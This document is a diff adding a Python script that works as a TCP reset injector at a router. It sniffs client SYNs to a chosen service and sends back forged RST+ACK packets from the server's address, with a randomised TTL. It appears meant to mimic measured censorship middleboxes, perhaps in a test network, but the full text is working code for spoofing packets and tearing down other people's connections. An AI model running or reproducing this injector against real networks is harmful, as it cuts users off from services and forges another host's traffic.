@@ -1,0 +1,49 @@
+"""A box that resets connections in the server's name. Run as `injector.py JSON`, at the router.
+
+It hears SYNs to one service on the clients' side and answers each with RST and ACK from the
+server's address, with a hop count of its own and without DF, as measured from such boxes.
+"""
+
+import json
+import random
+import socket
+import struct
+import sys
+
+from flood import ip_header, transport
+
+ETH_P_IP = 0x0800
+
+
+def reset_for(data, order, ttl, rng):
+    """The RST for an IPv4 packet that is a SYN to the service, or None."""
+    head = (data[0] & 15) * 4
+    if data[9] != 6 or len(data) < head + 20:
+        return None
+    source, target = (socket.inet_ntoa(data[at:at + 4]) for at in (12, 16))
+    sport, dport, seq = struct.unpack_from(">HHI", data, head)
+    if target != order["target"] or dport != order["port"] or data[head + 13] & 0x12 != 2:
+        return None
+    answered = (seq + 1) & 0xffffffff
+    segment = struct.pack(">HHIIBBHHH", dport, sport, 0, answered, 0x50, 0x14, 0, 0, 0)
+    segment = transport(target, source, 6, segment, 16)
+    head = ip_header(target, source, 6, len(segment), rng.randrange(1, 65536), ttl)
+    return source, head + segment
+
+
+def main():
+    order = json.loads(sys.argv[1])
+    rng = random.Random(order["seed"])
+    ttl = rng.choice((255, 128, 200, 48))
+    heard = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
+    heard.bind((order["device"], ETH_P_IP))
+    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    while True:
+        data = heard.recv(65536)
+        answer = reset_for(data, order, ttl, rng) if len(data) > 20 and data[0] >> 4 == 4 else None
+        if answer:
+            out.sendto(answer[1], (answer[0], 0))
+
+
+if __name__ == "__main__":
+    main()
